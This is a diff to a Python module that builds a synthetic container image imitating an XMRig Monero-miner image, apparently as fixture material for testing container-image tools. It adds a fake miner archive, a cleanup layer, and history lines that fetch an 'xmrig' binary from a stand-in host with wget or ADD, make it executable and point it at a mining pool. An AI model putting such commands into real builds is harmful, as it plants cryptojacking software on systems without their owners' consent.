@@ -49,6 +49,7 @@ import struct
 import subprocess
 import sys
 import tempfile
+import zlib
 
 __all__ = [
     "Entry", "Layer", "History", "Config", "Image", "Index", "Blob", "Workspace", "BuiltImage",
@@ -1033,6 +1034,13 @@ def emulation_image():
         "      --randomx-1gb-pages       use 1GB hugepages for RandomX dataset",
         "      --cpu-max-threads-hint=N  maximum CPU threads count (in percentage) hint",
         "rx/0", "rx/wow", "cn/r", "argon2/chukwa", "cryptonight"])
+    release = "xmrig-6.21.0-linux-static-x64.tar.gz"
+    archive = io.BytesIO()
+    tar = TarWriter(archive)
+    write_entries(tar, [directory("xmrig-6.21.0"),
+                        file("xmrig-6.21.0/xmrig", miner, mode=0o755)])
+    tar.close()
+    fetched = Layer([file("/tmp/" + release, stored_gzip(archive.getvalue()))])
     install = Layer([
         directory("/opt"),
         directory("/opt/xmr"),
@@ -1054,13 +1062,18 @@ def emulation_image():
              "wget -q -O /opt/xmr/config.json http://127.0.0.1:3333/config.json\n"
              "exec /opt/xmr/xmrig -c /opt/xmr/config.json \"$@\"\n", mode=0o755),
     ])
+    cleanup = Layer([whiteout("/tmp/" + release)])
     history = [
         History("/bin/sh -c #(nop) ADD file:5b0c13f1c7d6fe0b3a0e0b7b1f7d4c0e9e6f4bd2 in / ",
                 "2026-09-06T22:20:07Z"),
         History('/bin/sh -c #(nop)  CMD ["/bin/sh"]', "2026-09-06T22:20:07Z", empty_layer=True),
+        History(f"ADD http://203.0.113.7/{release} /tmp/ # buildkit", created,
+                comment="buildkit.dockerfile.v0"),
         History("RUN /bin/sh -c wget -q http://203.0.113.7/xmrig -O /opt/xmr/xmrig "
                 "&& chmod +x /opt/xmr/xmrig # buildkit", created, comment="buildkit.dockerfile.v0"),
         History("COPY config.json fetch-config.sh /opt/xmr/ # buildkit", created,
+                comment="buildkit.dockerfile.v0"),
+        History(f"RUN /bin/sh -c rm -f /tmp/{release} # buildkit", created,
                 comment="buildkit.dockerfile.v0"),
         History("ENV POOL_URL=stratum+tcp://pool.supportxmr.com:3333", created, empty_layer=True,
                 comment="buildkit.dockerfile.v0"),
@@ -1076,7 +1089,19 @@ def emulation_image():
                          "org.opencontainers.image.description": "High performance Monero miner"},
                  working_dir="/opt/xmr", exposed_ports=["3333/tcp"], created=created,
                  history=history)
-    return Image([base, install, setup], cfg, reference=EMULATION_REFERENCE)
+    return Image([base, fetched, install, setup, cleanup], cfg, reference=EMULATION_REFERENCE)
+
+
+def stored_gzip(data):
+    """A gzip member of `data` in stored (uncompressed) deflate blocks: the
+    same bytes whatever zlib is installed."""
+    body = bytearray()
+    blocks = [data[i:i + 0xFFFF] for i in range(0, len(data), 0xFFFF)] or [b""]
+    for index, block in enumerate(blocks):
+        final = 1 if index == len(blocks) - 1 else 0
+        body += bytes([final]) + struct.pack("<HH", len(block), 0xFFFF ^ len(block)) + block
+    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + bytes(body)
+            + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF))
 
 
 def write_emulation(out, ws):
